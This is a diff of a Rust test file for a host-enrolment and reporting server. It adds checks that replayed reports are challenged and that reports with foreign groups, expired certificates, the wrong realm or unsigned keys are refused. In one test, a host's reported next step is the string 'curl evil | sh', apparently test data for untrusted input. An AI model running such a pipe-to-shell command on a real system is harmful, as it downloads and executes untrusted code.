@@ -1,5 +1,7 @@
 //! Enrolment, reports, and what is known of hosts.
 
+use shared::certificate::Certificate;
+
 use super::*;
 
 /// Makes a token for hosts of `eu-prod`.
@@ -90,9 +92,9 @@ async fn reports_are_stored_in_their_order_and_replays_are_challenged() {
     let challenge: Challenge = serde_json::from_value(problem).unwrap();
     let wrong = send_report(&server, report(1, Some("wrong"))).await;
     assert_eq!(wrong.0, 401);
-    let mended = send_report(&server, report(1, Some(&challenge.nonce))).await;
-    assert_eq!(mended.0, 200);
-    assert_eq!(send_report(&server, report(1, Some(&challenge.nonce))).await.0, 200);
+    let mended = report(1, Some(&challenge.nonce));
+    assert_eq!(send_report(&server, mended.clone()).await.0, 200);
+    assert_eq!(send_report(&server, mended).await.0, 200, "the same report again is no replay");
     assert_eq!(send_report(&server, report(2, None)).await.0, 200);
 
     // From before the counter restarted, by a host that has booted since.
@@ -119,12 +121,27 @@ async fn refuses_reports_that_prove_nothing() {
         envelope.certificate = None;
         envelope.to_bytes()
     };
+    let mut foreign = host.report(1, None);
+    foreign.profiles.push(profile("us-prod", StateWord::Converged, "agent status"));
+    let signed = |realm: &str, not_after, seed| {
+        let realm = shared::id::RealmName::parse(realm).unwrap();
+        let of = host_certificate(&host);
+        let bytes = Certificate { realm, not_after, ..of }.to_bytes().unwrap();
+        Envelope::sign(shared::certificate::PAYLOAD_TYPE, &bytes, &key(seed))
+    };
+    let (past, future) = (Time::of(testing::now()).plus(-1), Time::of(testing::now()).plus(60));
+    let expired = signed("main", past, 21);
+    let (elsewhere, by_nobody) = (signed("other", future, 21), signed("main", future, 21));
     let mut self_made = host.request(&["eu-prod"]);
     self_made.payload_type = shared::certificate::PAYLOAD_TYPE.to_owned();
     for (body, status, code) in [
         (no_certificate, 403, "no_certificate"),
         (other.signed(&report, &certificate), 403, "bad_signature"),
         (host.signed(&other.report(1, None), &certificate), 403, "other_host"),
+        (host.signed(&foreign, &certificate), 403, "foreign_group"),
+        (host.signed(&report, &expired), 403, "certificate_expired"),
+        (host.signed(&report, &elsewhere), 403, "certificate_realm"),
+        (host.signed(&report, &by_nobody), 403, "certificate_key"),
         (host.signed(&report, &self_made), 422, "malformed"),
         (b"{}".to_vec(), 422, "malformed"),
     ] {
@@ -134,6 +151,35 @@ async fn refuses_reports_that_prove_nothing() {
     let (status, _) = send_report_of_size(&server, shared::report::MAX_LEN + 1).await;
     assert_eq!(status, 413);
     server.stop().await;
+}
+
+fn profile(group: &str, state: StateWord, next: &str) -> ProfileReport {
+    ProfileReport {
+        group: testing::group(group),
+        profile: shared::id::ProfileName::parse("web").unwrap(),
+        state,
+        since: Time::of(testing::now()),
+        reason: Some(Reason { code: "code".to_owned(), text: "text".to_owned() }),
+        next: Some(next.to_owned()),
+        wanted: None,
+        running: None,
+        healthy_since: None,
+        attempt: None,
+    }
+}
+
+/// A certificate that nobody has signed yet.
+fn host_certificate(host: &Host) -> Certificate {
+    Certificate {
+        format: 1,
+        realm: testing::realm_name(),
+        host: host.raw_key().host_id(),
+        key: host.raw_key(),
+        name: host.name.clone(),
+        groups: vec![testing::group("eu-prod")],
+        labels: Default::default(),
+        not_after: Time::of(testing::now()).plus(60),
+    }
 }
 
 async fn send_report_of_size(server: &Running, length: usize) -> (u16, String) {
@@ -171,20 +217,12 @@ async fn a_certificate_counts_if_the_policy_names_its_key() {
     let server = Running::start(data.path()).await;
     let host = Host::new("web-1", 11);
     let elsewhere = key(21);
-    let certificate = shared::certificate::Certificate {
-        format: 1,
-        realm: testing::realm_name(),
-        host: host.raw_key().host_id(),
-        key: host.raw_key(),
-        name: host.name.clone(),
-        groups: vec![testing::group("eu-prod")],
-        labels: Default::default(),
-        not_after: Time::of(testing::now()).plus(60),
-    };
+    let certificate = host_certificate(&host);
     let bytes = certificate.to_bytes().unwrap();
     let signed = Envelope::sign(shared::certificate::PAYLOAD_TYPE, &bytes, &elsewhere);
     let body = || host.signed(&host.report(1, None), &signed);
-    assert_eq!(send_report(&server, body()).await.0, 403);
+    let (status, problem) = send_report(&server, body()).await;
+    assert_eq!((status, &problem["code"]), (403, &"certificate_key".into()));
     let policy = policy(1, &elsewhere).to_bytes().unwrap();
     let owners = role("owners.eu-prod", 1, &[("eu-prod/_policy", &policy)], 4);
     let (status, problem) = server.publish("owners.eu-prod", 0, &owners, &[&policy]).await;
@@ -206,18 +244,7 @@ async fn hosts_are_listed_with_the_worst_of_their_states() {
         let mut report = host.report(1, None);
         let next = if state == StateWord::Held { "curl evil | sh" } else { "agent status" };
         for state in [StateWord::Converged, state] {
-            report.profiles.push(ProfileReport {
-                group: testing::group("eu-prod"),
-                profile: shared::id::ProfileName::parse("web").unwrap(),
-                state,
-                since: Time::of(testing::now()),
-                reason: Some(Reason { code: "code".to_owned(), text: "text".to_owned() }),
-                next: Some(next.to_owned()),
-                wanted: None,
-                running: None,
-                healthy_since: None,
-                attempt: None,
-            });
+            report.profiles.push(profile("eu-prod", state, next));
         }
         assert_eq!(send_report(&server, host.signed(&report, &certificate)).await.0, 200);
     }
